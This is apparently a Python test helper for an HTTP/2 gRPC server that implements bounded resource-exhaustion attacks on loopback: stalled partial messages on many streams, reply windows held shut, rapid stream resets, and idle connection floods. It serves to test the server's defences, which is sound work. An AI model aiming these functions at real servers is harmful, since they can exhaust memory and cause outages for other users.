"""Attacks on loopback that cost a server much memory or time. All of them are bounded."""

import socket
import struct
import threading
import time

from tests.serving.http2 import (
    ACK,
    DATA,
    END_STREAM,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
)

EMBED = "/bertline.v1.Encoder/Embed"
CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
WINDOW = 65_535
"""Initial flow-control window of HTTP/2."""


class Sender:
    """Connection that sends messages on many streams, within the flow-control windows of the server."""

    def __init__(self, target, *, reads=True):
        """Connect.

        Args:
            reads: whether replies may come: else the windows of streams stay shut.
        """
        self._connection = Connection(target, settings={} if reads else {INITIAL_WINDOW_SIZE: 0})
        self._changed = threading.Condition()
        self._initial = self._window = WINDOW
        self._windows = {}
        self.ended = {}
        """Stream -> type and payload of the frame that ended it."""
        self.is_closed = False
        self.num_sent = 0
        """Bytes of messages sent."""
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()

    def close(self):
        """Close the connection."""
        self._connection.close()
        self._reader.join(10)

    def open(self, path, more=()):
        """Start a call with more header fields but without its message; return its stream."""
        with self._changed:
            stream = self._connection.open(path, more)
            self._windows[stream] = self._initial
        return stream

    def send(self, stream, data, *, last=False, timeout_s=5.0):
        """Send a part of a message; return whether all of it was sent before the stream ended or time was up."""
        end, sent = time.monotonic() + timeout_s, 0
        while sent < len(data) or (last and not data):
            with self._changed:
                room = min(self._window, self._windows[stream], 16_384)
                while room <= 0:
                    if self.is_closed or stream in self.ended or not self._changed.wait(end - time.monotonic()):
                        return False
                    room = min(self._window, self._windows[stream], 16_384)
                if self.is_closed or stream in self.ended:
                    return False
                part = data[sent : sent + room]
                sent += len(part)
                self._window -= len(part)
                self._windows[stream] -= len(part)
            try:
                self._connection.send(DATA, END_STREAM if last and sent == len(data) else 0, stream, part)
            except OSError:
                return False
            self.num_sent += len(part)
        return True

    def reset(self, stream):
        """Cancel a call."""
        self._connection.send(RST_STREAM, 0, stream, struct.pack(">I", 8))

    def _read(self):
        try:
            for kind, flags, stream, payload in self._connection.all_frames():
                with self._changed:
                    self._take(kind, flags, stream, payload)
                    self._changed.notify_all()
        except OSError:
            pass
        with self._changed:
            self.is_closed = True
            self._changed.notify_all()

    def _take(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            found = dict(struct.iter_unpack(">HI", payload))
            if INITIAL_WINDOW_SIZE in found:
                change = found[INITIAL_WINDOW_SIZE] - self._initial
                self._initial += change
                self._windows = {item: window + change for item, window in self._windows.items()}
            self._connection.send(SETTINGS, ACK, 0, b"")
        elif kind == PING and not flags & ACK:
            self._connection.send(PING, ACK, 0, payload)
        elif kind == WINDOW_UPDATE:
            (more,) = struct.unpack(">I", payload)
            if stream:
                self._windows[stream] = self._windows.get(stream, 0) + more
            else:
                self._window += more
        elif kind == RST_STREAM or (kind in (HEADERS, DATA) and flags & END_STREAM):
            self.ended[stream] = kind, payload
        elif kind == GOAWAY:
            self.ended[0] = kind, payload


def never_end(target, num_streams, size, *, path=EMBED, seconds=5.0, part=0.95):
    """Send most of a message on each of many streams, without its end; return the bytes that the server accepted."""
    with Sender(target) as sender:
        head = struct.pack(">?I", False, size)
        body = bytes(int(size * part))
        end, streams = time.monotonic() + seconds, []
        try:
            for _ in range(num_streams):
                streams.append(sender.open(path))
                sender.send(streams[-1], head + body[: 2**14], timeout_s=0.01)
            threads = [
                threading.Thread(target=sender.send, args=(stream, body[2**14 :]), kwargs={"timeout_s": seconds})
                for stream in streams[:64]
            ]
            for thread in threads:
                thread.start()
            for stream in streams[64:]:
                sender.send(stream, body[2**14 :], timeout_s=0.002)
            for thread in threads:
                thread.join(max(0.0, end - time.monotonic()) + 1)
        except OSError:
            pass
        time.sleep(max(0.0, end - time.monotonic()))
        return sender.num_sent


def read_nothing(target, path, message, num_calls, *, seconds=5.0):
    """Make requests on one connection and close the windows of all replies."""
    with Sender(target, reads=False) as sender:
        end = time.monotonic() + seconds
        try:
            for _ in range(num_calls):
                sender.send(sender.open(path), struct.pack(">?I", False, len(message)) + message, last=True)
        except OSError:
            pass
        time.sleep(max(0.0, end - time.monotonic()))
        return sender.is_closed


def reset_rapidly(target, *, rate=10_000, seconds=3.0, path=EMBED):
    """Start calls and cancel each immediately; return their number when the server closed the connection."""
    with Sender(target) as sender:
        began, count = time.monotonic(), 0
        try:
            while not sender.is_closed and time.monotonic() - began < seconds:
                sender.reset(sender.open(path))
                count += 1
                if (early := count / rate - (time.monotonic() - began)) > 0.001:
                    time.sleep(early)
        except OSError:
            sender.is_closed = True
        return count, sender.is_closed, time.monotonic() - began


def say_nothing(target, num_connections, seconds):
    """Open connections, send nothing, and close them."""
    host, port = target.rsplit(":", 1)
    sockets = []
    for _ in range(num_connections):
        try:
            sockets.append(socket.create_connection((host, int(port)), timeout=5))
        except OSError:
            break
    time.sleep(seconds)
    for item in sockets:
        item.close()
